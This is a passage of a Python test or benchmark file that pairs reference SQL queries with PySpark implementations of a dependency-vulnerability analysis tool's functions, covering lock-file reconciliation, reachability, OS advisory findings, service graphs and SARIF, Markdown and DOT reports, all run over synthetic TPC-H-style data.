WITH m AS (SELECT o_custkey AS f, o_orderkey % 9 AS name, 'm' || o_orderkey AS version FROM orders WHERE o_orderstatus = 'F'), k AS (SELECT o_custkey AS f, o_orderkey % 9 AS name, 'l' || o_orderkey AS version FROM orders WHERE o_orderstatus = 'O')
SELECT f, name, version, TRUE AS direct FROM m WHERE NOT EXISTS (SELECT 1 FROM k WHERE k.f = m.f AND k.name = m.name)
UNION ALL SELECT f, name, version, EXISTS (SELECT 1 FROM m WHERE m.f = k.f AND m.name = k.name) FROM k
""")
def lock_reconcile(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Manifest lines give way to the lock file of their folder."""
    folder = lambda file: F.concat(F.lit("dir"), F.col("o_custkey").cast("string"), F.lit("/" + file))
    part = lambda status, mark, file: table(spark, sf_dir, "orders").where(F.col("o_orderstatus") == status).select(F.lit("npm").alias("ecosystem"), (F.col("o_orderkey") % 9).cast("string").alias("name"), F.concat(F.lit(mark), F.col("o_orderkey").cast("string")).alias("version"), folder(file).alias("manifest_path"), F.lit(True).alias("direct"))
    out = advisories.reconcile(part("F", "m", "package.json"), part("O", "l", "package-lock.json"))
    return out.select(F.regexp_extract("manifest_path", r"^dir(\d+)/", 1).cast("long").alias("f"), F.col("name").cast("long").alias("name"), "version", "direct")


@query(f"""
WITH {EDGES_SQL.strip()}, r AS (SELECT 'c' || c_custkey AS node FROM customer),
p1 AS (SELECT dst AS node, min(src) AS p FROM e JOIN r ON src = node GROUP BY dst), p2 AS (SELECT dst AS node, min(src) AS q FROM e JOIN p1 ON src = node GROUP BY dst)
SELECT node AS name, 'root>' || node AS path FROM r UNION ALL SELECT node, 'root>' || p || '>' || node FROM p1 UNION ALL SELECT p2.node, 'root>' || p || '>' || q || '>' || p2.node FROM p2 JOIN p1 ON q = p1.node
""")
def lock_paths(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Shortest ways from the root through a lock graph."""
    roots = table(spark, sf_dir, "customer").select(F.concat(F.lit("c"), F.col("c_custkey").cast("string")).alias("node"))
    return advisories.lock_paths(roots, trade_edges(spark, sf_dir), 2).select("name", F.array_join("path", ">").alias("path"))


@query("""
WITH u AS (SELECT user_id AS name, CASE event_type WHEN 'purchase' THEN 'call' WHEN 'view' THEN 'import' WHEN 'click' THEN 'reference' WHEN 'error' THEN 'dynamic' END AS kind, value < 250 AS in_test, CASE event_id % 3 WHEN 0 THEN 'high' WHEN 1 THEN 'medium' ELSE 'low' END AS conf FROM events WHERE event_type <> 'signup'),
g AS (SELECT c_custkey AS name, max(CASE WHEN kind = 'call' AND NOT in_test THEN CASE conf WHEN 'high' THEN 3 WHEN 'medium' THEN 2 ELSE 1 END END) AS call, coalesce(bool_or(kind IN ('import', 'reference') AND NOT in_test), FALSE) AS imported, coalesce(bool_or(kind = 'dynamic'), FALSE) AS dyn, coalesce(bool_or(in_test), FALSE) AS tests FROM customer LEFT JOIN u ON name = c_custkey GROUP BY c_custkey)
SELECT name, CASE WHEN call IS NOT NULL THEN 'reachable' WHEN imported THEN 'imported' ELSE 'unreachable' END AS level,
CASE WHEN call IS NOT NULL THEN ['low', 'medium', 'high'][call] WHEN imported THEN CASE WHEN dyn THEN 'low' ELSE 'high' END WHEN tests THEN 'medium' WHEN dyn THEN 'low' ELSE 'high' END AS confidence FROM g
""")
def reachability_verdicts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Whether a dependency is called, imported, or neither."""
    uses = table(spark, sf_dir, "events").where("event_type <> 'signup'").select(F.col("user_id").cast("string").alias("package"), risk.choose(F.col("event_type"), {"purchase": "call", "view": "import", "click": "reference", "error": "dynamic"}).alias("kind"), (F.col("value") < 250).alias("in_test"), F.get(F.array(*map(F.lit, ("high", "medium", "low"))), (F.col("event_id") % 3).cast("int")).alias("confidence"))
    found = advisories.reachability(table(spark, sf_dir, "customer").select(F.col("c_custkey").cast("string").alias("name")), uses)
    return found.select(F.col("name").cast("long").alias("name"), "level", "confidence")


@query("""
WITH p AS (SELECT DISTINCT l_suppkey AS source, l_partkey AS bin FROM lineitem), v AS (SELECT s_suppkey AS source, s_suppkey % 40 AS version FROM supplier),
s AS (SELECT p_partkey AS adv, p_partkey % 100 AS source, p_size AS fixed, 'CVE-' || p_partkey % 6 AS cve, p_partkey % 4 AS rank, CASE p_partkey % 3 WHEN 0 THEN 'fixed' WHEN 1 THEN 'fix_deferred' ELSE 'not_affected' END AS state FROM part),
h AS (SELECT v.source, cve, rank, adv, fixed, state FROM v JOIN s USING (source) WHERE state <> 'not_affected' AND version < fixed AND source IN (SELECT source FROM p))
SELECT source, cve, CASE max(rank) WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END AS severity, count(DISTINCT adv) AS advisories, CASE WHEN bool_or(state = 'fixed') THEN 'fixed' ELSE 'fix_deferred' END AS state FROM h GROUP BY source, cve
""")
def os_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Distribution statements by source package and CVE: worst severity, all advisories, best fix state."""
    s = lambda c: c.cast("string")
    packages = table(spark, sf_dir, "lineitem").select(F.array(F.lit("debian:12")).alias("data_keys"), s(F.col("l_partkey")).alias("binary"), s(F.col("l_suppkey")).alias("source"), s(F.col("l_suppkey") % 40).alias("version"))
    rank = F.get(F.array(*map(F.lit, ("low", "medium", "high", "critical"))), (F.col("p_partkey") % 4).cast("int"))
    state = F.get(F.array(*map(F.lit, ("fixed", "fix_deferred", "not_affected"))), (F.col("p_partkey") % 3).cast("int"))
    statements = table(spark, sf_dir, "part").select(F.lit("debian:12").alias("data_key"), s(F.col("p_partkey") % 100).alias("source"), s(F.col("p_partkey")).alias("advisory"), F.array(F.concat(F.lit("CVE-"), s(F.col("p_partkey") % 6))).alias("cves"), rank.alias("severity"), s(F.col("p_size")).alias("fixed_version"), state.alias("state"))
    found = os_advisories.findings(packages, statements)
    return found.select(F.col("source").cast("long").alias("source"), "cve", "severity", F.size("advisories").cast("long").alias("advisories"), "state")


@query("""
WITH s AS (SELECT l_suppkey AS k, 'c' || l_linenumber AS cve, list(DISTINCT l_partkey) AS bins FROM lineitem WHERE l_quantity > 45 GROUP BY ALL)
SELECT DISTINCT l_partkey AS bin, 'c' || l_linenumber AS cve FROM lineitem WHERE l_quantity <= 45 AND NOT EXISTS (SELECT 1 FROM s WHERE cve = 'c' || l_linenumber AND list_contains(bins, l_partkey))
""")
def source_before_binary(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings by binary package that no finding by source package covers."""
    cve = F.concat(F.lit("c"), F.col("l_linenumber").cast("string"))
    lines = table(spark, sf_dir, "lineitem").select("l_suppkey", "l_partkey", "l_quantity", cve.alias("cve"))
    by_source = lines.where("l_quantity > 45").groupBy("l_suppkey", "cve").agg(F.collect_set("l_partkey").alias("binaries"))
    by_binary = lines.where("l_quantity <= 45").select(F.col("l_partkey").alias("binary"), "cve").distinct()
    return os_advisories.prefer_source(by_source, by_binary).select(F.col("binary").alias("bin"), "cve")


# --- services --------------------------------------------------------------------------------------------------------------
@query("""
SELECT p.conv_id, p.turn AS producer, c.turn AS consumer FROM conversations p JOIN conversations c ON p.conv_id = c.conv_id AND c.turn = p.turn + 1 WHERE p.role = 'user' AND c.role = 'assistant'
""")
def boundary_pairing(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Producers and consumers that meet at a boundary; one-sided ones are dropped."""
    turns = table(spark, sf_dir, "conversations")
    user = F.col("role") == "user"
    boundary = F.struct("conv_id", F.when(user, F.col("turn")).otherwise(F.col("turn") - 1).alias("turn"))
    found = turns.where("role in ('user', 'assistant')").select(boundary.alias("boundary"), F.when(user, "producer").otherwise("consumer").alias("side"), F.col("role").alias("rule_id"), F.col("turn").alias("location"))
    return system_graph.compose(found).select("boundary.conv_id", F.col("producer_location").alias("producer"), F.col("consumer_location").alias("consumer"))


@query("""
WITH n AS (SELECT 'u' || user_id AS id, event_type, event_id, props FROM events)
SELECT id, arg_min(event_type, event_id) AS kind, arg_max(props, event_id) AS last_props, count(DISTINCT event_type) AS n_attrs FROM n GROUP BY id
""")
def graph_upsert(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Nodes found again and again: the first kind, the last value of each attribute."""
    found = table(spark, sf_dir, "events").select(F.concat(F.lit("u"), F.col("user_id").cast("string")).alias("id"), F.col("event_type").alias("kind"), F.lit("n").alias("name"), F.create_map(F.lit("props"), F.col("props"), F.concat(F.lit("t"), F.col("event_type")), F.lit("1")).alias("attrs"), F.lit(None).cast("string").alias("code_ref"), F.col("event_id").alias("ordinal"))
    return system_graph.upsert(found).select("id", "kind", F.element_at("attrs", "props").alias("last_props"), (F.size("attrs") - 1).cast("long").alias("n_attrs"))


@query("""
WITH e AS (SELECT l_partkey AS s, l_suppkey AS d, l_returnflag AS kind, CASE l_linestatus WHEN 'O' THEN 'high' ELSE 'low' END AS conf FROM lineitem),
g AS (SELECT * FROM e WHERE s IN (SELECT p_partkey FROM part WHERE p_size > 10) AND d IN (SELECT s_suppkey FROM supplier WHERE s_acctbal > 0))
SELECT s, d, kind, CASE WHEN bool_or(conf = 'high') THEN 'high' ELSE 'low' END AS confidence, count(DISTINCT conf) AS n_evidence FROM g GROUP BY s, d, kind
""")
def checked_edges(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Edges both of whose ends exist, merged with the best confidence."""
    node = lambda p, c: F.concat(F.lit(p), F.col(c).cast("string"))
    conf = F.when(F.col("l_linestatus") == "O", "high").otherwise("low")
    edges = table(spark, sf_dir, "lineitem").select(node("p", "l_partkey").alias("src"), node("s", "l_suppkey").alias("dst"), F.col("l_returnflag").alias("kind"), conf.alias("confidence"), F.array(conf).alias("evidence"))
    nodes = table(spark, sf_dir, "part").where("p_size > 10").select(node("p", "p_partkey").alias("id")).unionByName(table(spark, sf_dir, "supplier").where("s_acctbal > 0").select(node("s", "s_suppkey").alias("id")))
    good, _ = system_graph.checked_edges(edges, nodes)
    return good.select(F.substring("src", 2, 20).cast("long").alias("s"), F.substring("dst", 2, 20).cast("long").alias("d"), "kind", "confidence", F.size("evidence").cast("long").alias("n_evidence"))


@query("""
SELECT DISTINCT c.user_id AS client, h.s_suppkey AS service FROM events c JOIN supplier h ON c.user_id % 30 = h.s_suppkey % 30 AND CASE c.event_type WHEN 'view' THEN 'GET' ELSE 'POST' END = CASE h.s_suppkey % 2 WHEN 0 THEN 'GET' ELSE 'POST' END
""")
def route_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Requests and handlers on method and the shape of their routes."""
    s = lambda c: c.cast("string")
    k = F.col("s_suppkey")
    handlers = table(spark, sf_dir, "supplier").select(s(k).alias("service"), F.when(k % 2 == 0, "get").otherwise("POST").alias("method"), F.concat(F.lit("/r"), s(k % 30), F.when(k % 3 == 0, "/{id}/").when(k % 3 == 1, "/:id").otherwise("/<id>")).alias("path"))
    requests = table(spark, sf_dir, "events").select(s(F.col("user_id")).alias("client"), F.when(F.col("event_type") == "view", "Get").otherwise("post").alias("method"), F.concat(F.lit("https://h.example/r"), s(F.col("user_id") % 30), F.lit("/{x}")).alias("path")).distinct()
    return system_graph.route_clients(handlers, requests).select(F.col("client").cast("long").alias("client"), F.col("service").cast("long").alias("service"))


@query("""
SELECT DISTINCT a.user_id AS producer, b.user_id AS consumer, 't' || a.event_id % 500 AS topic FROM events a JOIN events b ON a.event_id % 500 = b.event_id % 500 WHERE a.event_type IN ('click', 'signup') AND b.event_type NOT IN ('click', 'signup')
""")
def topic_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Producers and consumers of a topic: clicks and sign-ups write to topics, all other events read."""
    events = table(spark, sf_dir, "events").select(F.col("user_id").alias("service"), F.concat(F.lit("t"), (F.col("event_id") % 500).cast("string")).alias("topic"), F.col("event_type").isin("click", "signup").alias("writes"))
    return system_graph.topic_joins(events.where("writes").select("service", "topic").distinct(), events.where("not writes").select("service", "topic").distinct())


@query("""
SELECT DISTINCT o_custkey AS service, 't' || o_orderkey % 5 AS "table", CASE o_orderstatus WHEN 'F' THEN 'write' ELSE 'read' END AS direction FROM orders
""")
def sql_tables(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The tables that SQL texts read and write."""
    name = F.concat(F.lit("T"), (F.col("o_orderkey") % 5).cast("string"))
    sql = F.when(F.col("o_orderstatus") == "F", F.concat(F.lit("INSERT INTO `"), name, F.lit("` (a) VALUES (1)"))).otherwise(F.concat(F.lit("select a from "), name, F.lit(" where b = 1")))
    return system_graph.sql_tables(table(spark, sf_dir, "orders").select(F.col("o_custkey").alias("service"), sql.alias("sql")))


@query("""
SELECT p_partkey, s_suppkey FROM part JOIN supplier ON p_size = s_suppkey % 50 + 1
""")
def native_binding_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Java declarations and native functions on the mangled name."""
    size = F.col("p_size").cast("string")
    declared = table(spark, sf_dir, "part").select("p_partkey", F.concat(F.lit("org.ex_a.C"), size).alias("class_name"), F.lit("do_it").alias("method"))
    natives = table(spark, sf_dir, "supplier").select("s_suppkey", F.concat(F.lit("Java_org_ex_1a_C"), (F.col("s_suppkey") % 50 + 1).cast("string"), F.lit("_do_1it")).alias("symbol"))
    return system_graph.native_bindings(declared, natives).select("p_partkey", "s_suppkey")


# --- reports ---------------------------------------------------------------------------------------------------------------
def findings_of(spark: SparkSession, sf_dir: str) -> DataFrame:
    severity = risk.choose(F.col("event_type"), {"error": "critical", "purchase": "high", "signup": "medium"}, "low")
    return table(spark, sf_dir, "events").select(F.col("event_type").alias("rule_id"), severity.alias("severity"), F.concat(F.lit("m "), F.col("event_type")).alias("message"), F.concat(F.lit("u"), F.col("user_id").cast("string")).alias("path"), F.col("event_id").cast("int").alias("line"), F.lit(1).alias("col"), F.array(F.lit("CWE-1")).alias("cwe"))


@query("""
SELECT event_id, event_type AS rule_id, CASE event_type WHEN 'error' THEN 'error' WHEN 'purchase' THEN 'error' WHEN 'signup' THEN 'warning' ELSE 'note' END AS level, 'u' || user_id AS uri FROM events
""")
def sarif_results(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The result objects of a SARIF log."""
    r = reports.sarif_results(findings_of(spark, sf_dir))
    at = "$.locations[0].physicalLocation"
    return r.select(F.get_json_object("value", f"{at}.region.startLine").cast("long").alias("event_id"), F.get_json_object("value", "$.ruleId").alias("rule_id"), F.get_json_object("value", "$.level").alias("level"), F.get_json_object("value", f"{at}.artifactLocation.uri").alias("uri"))


@query("""
SELECT '| ' || s || ' | ' || count(*) || ' |' AS line FROM (SELECT CASE event_type WHEN 'error' THEN 'critical' WHEN 'purchase' THEN 'high' WHEN 'signup' THEN 'medium' ELSE 'low' END AS s FROM events) GROUP BY s
UNION ALL SELECT '- `' || event_type || '` u' || user_id || ':' || event_id || ':1 m ' || event_type FROM events UNION ALL VALUES ('# Findings'), ('| severity | findings |'), ('| --- | --- |'), ('')
""")
def markdown_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The lines of a Markdown report."""
    return reports.markdown(findings_of(spark, sf_dir)).select(F.col("value").alias("line"))


@query("""
WITH e AS (SELECT DISTINCT 'n' || n_nationkey AS s, 'r' || n_regionkey AS d FROM nation)
SELECT '  "' || s || '" -> "' || d || '" [label="in"' || CASE WHEN d = 'r1' THEN ' color=red' ELSE '' END || '];' AS line FROM e UNION ALL SELECT '  "n' || n_nationkey || '" [label="' || n_name || '"];' FROM nation UNION ALL VALUES ('digraph facts {'), ('}')
""")
def dot_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The lines of a DOT graph, findings' ways in red."""
    named = lambda p, c: F.concat(F.lit(p), F.col(c).cast("string"))
    nation = table(spark, sf_dir, "nation")
    edges = nation.select(named("n", "n_nationkey").alias("src"), named("r", "n_regionkey").alias("dst"), F.lit("in").alias("kind"))
    return reports.dot(nation.select(named("n", "n_nationkey").alias("id"), F.col("n_name").alias("label")), edges, edges.where("dst = 'r1'")).select(F.col("value").alias("line"))
